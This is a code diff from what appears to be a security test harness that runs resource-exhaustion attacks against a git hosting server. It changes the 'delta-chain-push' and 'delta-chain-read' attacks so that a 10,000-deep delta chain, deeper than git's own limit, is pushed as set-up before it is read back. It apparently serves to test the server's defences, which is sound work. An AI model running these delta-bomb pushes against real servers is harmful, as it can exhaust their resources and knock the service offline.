@@ -10,6 +10,7 @@ const BOMB_OBJECTS = 10;
 const BOMB_COPIES = Math.floor(500_000_000 / MAX_SHORT_COPY);
 /** Deeper than git's own limit (4095, pack.depth). */
 const CHAIN_DEPTH = 10_000;
+const SETUP_PUSH_TIMEOUT_MS = 600_000;
 
 const label = (text: string) => Buffer.from(text.padEnd(8, '.').slice(0, 8));
 
@@ -61,12 +62,12 @@ function pushRequest(commit: string, pack: Buffer): Buffer {
   return receivePackRequest([{ old: ZERO_ID, new: commit, ref: 'refs/heads/main' }], ['report-status', 'agent=hostile-bench'], pack);
 }
 
-/** The attacker's repository the chain was pushed to (the read attack reads it back). */
+/** The attacker's repository the chain is pushed to (the read attack reads it back), and whether it was. */
 const chainRepo = once(async (ctx) => {
   const { attacker } = await ctx.accounts();
   const repo = ctx.unique('chain');
   await ctx.api.createRepo(attacker, repo);
-  return { owner: attacker, repo, ...chainPack() };
+  return { owner: attacker, repo, ...chainPack(), pushed: false };
 });
 
 export const deltaBombAttacks: Attack[] = [
@@ -87,16 +88,23 @@ export const deltaBombAttacks: Attack[] = [
     name: 'delta-chain-push',
     finding: '3',
     async prepare(ctx) {
-      const { owner, repo, pack, commit } = await chainRepo(ctx);
-      const body = pushRequest(commit, pack);
-      return async (limits) => `depth ${CHAIN_DEPTH}, ${(pack.length / 1024).toFixed(0)} KiB pack: ${await rawPush(ctx, owner, repo, body, limits)}`;
+      const chain = await chainRepo(ctx);
+      const body = pushRequest(chain.commit, chain.pack);
+      return async (limits) => {
+        chain.pushed = true;
+        return `depth ${CHAIN_DEPTH}, ${(chain.pack.length / 1024).toFixed(0)} KiB pack: ${await rawPush(ctx, chain.owner, chain.repo, body, limits)}`;
+      };
     },
   },
   {
     name: 'delta-chain-read',
     finding: '3',
     async prepare(ctx) {
-      const { owner, repo } = await chainRepo(ctx);
+      const chain = await chainRepo(ctx);
+      const { owner, repo } = chain;
+      // Run without the push attack (--only): the chain is pushed as set-up; a server that refuses it leaves nothing to read.
+      if (!chain.pushed) await rawPush(ctx, owner, repo, pushRequest(chain.commit, chain.pack), { signal: new AbortController().signal, remainingMs: () => SETUP_PUSH_TIMEOUT_MS });
+      chain.pushed = true;
       return async (limits) => {
         try {
           const answer = await request(`${ctx.target.base()}/${owner.name}/${repo}/raw/main/tip`, { timeoutMs: limits.remainingMs(), signal: limits.signal });
